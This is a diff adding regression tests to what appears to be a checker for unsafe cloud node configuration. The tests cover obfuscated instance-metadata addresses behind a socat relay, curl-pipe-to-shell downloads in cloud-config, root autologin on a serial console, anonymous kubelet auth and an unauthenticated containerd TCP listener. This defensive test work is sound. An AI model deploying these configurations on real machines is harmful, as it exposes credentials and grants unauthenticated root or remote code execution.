@@ -611,3 +611,130 @@ describe("root reads: round 25 writes, commands and their neighbours (engine/roo
             });
         else it(`accepts: ${c.name}`, () => assert.deepStrictEqual(c.reads(), []));
 });
+
+// Round 26: neighbours of redteam26-node/nsec.test.ts (instance-metadata spellings, systemd specifiers, consoles,
+// cloud-config modules that run commands, kubelet flag entries, containerd's TCP listener, the cluster CA).
+const nodeConfig = (...spec: string[]) =>
+    userDataOpenings([
+        {
+            text: [
+                "MIME-Version: 1.0",
+                'Content-Type: multipart/mixed; boundary="B"',
+                "",
+                "--B",
+                "Content-Type: application/node.eks.aws",
+                "",
+                "apiVersion: node.eks.aws/v1alpha1",
+                "kind: NodeConfig",
+                "spec:",
+                "  cluster:",
+                "    name: dev",
+                ...spec,
+                "--B--",
+            ].join("\n"),
+            base64: false,
+        },
+    ]).map(o => o.what);
+const pem = (n: number) =>
+    Buffer.from(
+        Array.from({ length: n }, (_, i) => `-----BEGIN CERTIFICATE-----\nMIICA${i}\n-----END CERTIFICATE-----`).join(
+            "\n",
+        ),
+    ).toString("base64");
+
+const round26: { name: string; reads: () => string[]; refused?: RegExp }[] = [
+    ...[
+        "0xa9fea9fe",
+        "0251.0376.0251.0376",
+        "169.254.43518",
+        "169.16689662",
+        "[::ffff:a9fe:a9fe]",
+        "[fd00:0ec2:0:0:0:0:0:254]",
+    ].map(address => ({
+        name: `a relay to instance metadata spelled ${address}`,
+        reads: () => shell(`socat TCP-LISTEN:8181,fork TCP:${address}:80 &`),
+        refused: /instance metadata/,
+    })),
+    {
+        name: "a root unit running %S/../../data/hook (specifiers resolved before the path)",
+        reads: () => file("/etc/systemd/system/hook.service", "[Service]", "ExecStart=%S/../../data/hook"),
+        refused: /\/data\/hook/,
+    },
+    {
+        name: "getty -a root on the serial console",
+        reads: () => shell("/sbin/agetty -a root ttyS0 115200 &"),
+        refused: /without a password/,
+    },
+    {
+        name: "power_state's condition as a list running sh -c with a download",
+        reads: () =>
+            cloudConfig(
+                "power_state:",
+                "  mode: reboot",
+                "  condition: [sh, -c, 'curl -fsSL https://example.com/x | bash']",
+            ),
+        refused: /made at boot/,
+    },
+    {
+        name: "snap commands piping a download into sh",
+        reads: () => cloudConfig("snap:", "  commands:", "    00: curl -fsSL https://example.com/x | sh"),
+        refused: /made at boot/,
+    },
+    {
+        name: "a kubelet.flags entry hiding --anonymous-auth=true",
+        reads: () => nodeConfig("  kubelet:", "    flags:", '      - "--max-pods=58 --anonymous-auth=true"'),
+        refused: /anonymous-auth/,
+    },
+    {
+        name: "containerd's API on TCP without client certificates",
+        reads: () =>
+            nodeConfig("  containerd:", "    config: |", "      [grpc]", '      tcp_address = "10.0.0.5:10010"'),
+        refused: /tcp_address/,
+    },
+    {
+        name: "a cluster CA bundle of three certificates",
+        reads: () => nodeConfig(`    certificateAuthority: ${pem(3)}`),
+        refused: /bundle of several CAs/,
+    },
+    // Accepted.
+    {
+        name: "chrony pointed at the Amazon Time Sync Service (169.254.169.123, not metadata)",
+        reads: () => shell("echo 'server 169.254.169.123 prefer iburst' >> /etc/chrony.conf"),
+    },
+    {
+        name: "jq reading cloud-init's instance-data.json",
+        reads: () => shell("REGION=$(jq -r .v1.region /run/cloud-init/instance-data.json)"),
+    },
+    { name: "agetty without autologin", reads: () => shell("/sbin/agetty --keep-baud 115200 ttyS0 vt220 &") },
+    {
+        name: "containerd's API on TCP with client certificates (tcp_tls_ca)",
+        reads: () =>
+            nodeConfig(
+                "  containerd:",
+                "    config: |",
+                "      [grpc]",
+                '      tcp_address = "10.0.0.5:10010"',
+                '      tcp_tls_ca = "/etc/containerd/ca.pem"',
+                '      tcp_tls_cert = "/etc/containerd/cert.pem"',
+                '      tcp_tls_key = "/etc/containerd/key.pem"',
+            ),
+    },
+    { name: "the cluster's own CA (one certificate)", reads: () => nodeConfig(`    certificateAuthority: ${pem(1)}`) },
+    {
+        name: "two kubelet flags in one entry, both harmless",
+        reads: () => nodeConfig("  kubelet:", "    flags:", '      - "--max-pods=58 --node-labels=tier=validators"'),
+    },
+];
+
+describe("root reads: round 26 neighbours (engine/rootReads.ts, userData.ts)", () => {
+    for (const c of round26)
+        if (c.refused)
+            it(`refuses: ${c.name}`, () => {
+                const what = c.reads();
+                assert.ok(
+                    what.some(w => c.refused!.test(w)),
+                    `expected a refusal matching ${c.refused}, got ${JSON.stringify(what, null, 1)}`,
+                );
+            });
+        else it(`accepts: ${c.name}`, () => assert.deepStrictEqual(c.reads(), []));
+});
